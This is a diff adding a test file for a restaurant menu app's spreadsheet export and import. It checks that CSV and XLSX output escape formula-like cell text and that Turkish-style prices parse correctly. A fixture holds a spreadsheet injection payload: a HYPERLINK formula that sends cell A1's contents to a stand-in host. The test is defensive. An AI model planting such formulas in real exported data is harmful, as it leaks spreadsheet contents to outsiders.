@@ -0,0 +1,65 @@
+import { describe, expect, it } from "vitest";
+import { getTranslator } from "@/lib/i18n/translate";
+import type { MenuItem } from "@/lib/menuApi";
+import { menuToCsv, menuToXlsx, parseCsv, previewImport, readSheetFile } from "@/lib/menuSpreadsheet";
+
+const FORMULA = '=HYPERLINK("http://example.com/?x="&A1,"Tıkla")';
+
+const items: MenuItem[] = [
+  { id: 1, name: FORMULA, category: "Tatlılar", price: 120, isAvailable: true, description: "@SUM(1)" },
+  { id: 2, name: "Künefe", category: "Tatlılar", price: 150, isAvailable: false },
+];
+
+describe("menuToCsv", () => {
+  it("formül gibi başlayan metinlerin önüne ' koyar", () => {
+    const csv = menuToCsv(items);
+    expect(csv).toContain(`"'${FORMULA.replace(/"/g, '""')}"`);
+    expect(csv).toContain(",'@SUM(1)");
+    expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
+  });
+
+  it("tekrar içe aktarılınca asıl metni geri verir", () => {
+    const rows = parseCsv(menuToCsv(items));
+    expect(rows[1][1]).toBe(FORMULA);
+    expect(rows[1][6]).toBe("@SUM(1)");
+    expect(rows[2][1]).toBe("Künefe");
+  });
+});
+
+describe("menuToXlsx", () => {
+  it("formül gibi başlayan metni metin biçimli string hücre olarak yazar", async () => {
+    const blob = await menuToXlsx(items);
+    const { Workbook, ValueType } = await import("exceljs");
+    const workbook = new Workbook();
+    await workbook.xlsx.load(await blob.arrayBuffer());
+    const cell = workbook.worksheets[0].getCell("B2");
+
+    expect(cell.type).toBe(ValueType.String);
+    expect(cell.value).toBe(FORMULA);
+    expect(cell.numFmt).toBe("@");
+
+    const rows = await readSheetFile(new File([blob], "menu.xlsx"));
+    expect(rows[1][1]).toBe(FORMULA);
+  });
+});
+
+describe("previewImport fiyatları", () => {
+  const t = getTranslator("tr");
+  const priceOf = (price: string) => {
+    const preview = previewImport([["name", "category", "price"], ["Künefe", "Tatlılar", price]], [], t);
+    if (!preview.ok) throw new Error(preview.error);
+    return preview.rows[0].fields?.price;
+  };
+
+  it("virgülsüz üç haneli nokta grubunu binlik ayraç sayar", () => {
+    expect(priceOf("1.250")).toBe(1250);
+    expect(priceOf("1.250.000")).toBe(1250000);
+  });
+
+  it("diğer biçimleri eskisi gibi okur", () => {
+    expect(priceOf("1.250,50")).toBe(1250.5);
+    expect(priceOf("120,5")).toBe(120.5);
+    expect(priceOf("12.5")).toBe(12.5);
+    expect(priceOf("₺120")).toBe(120);
+  });
+});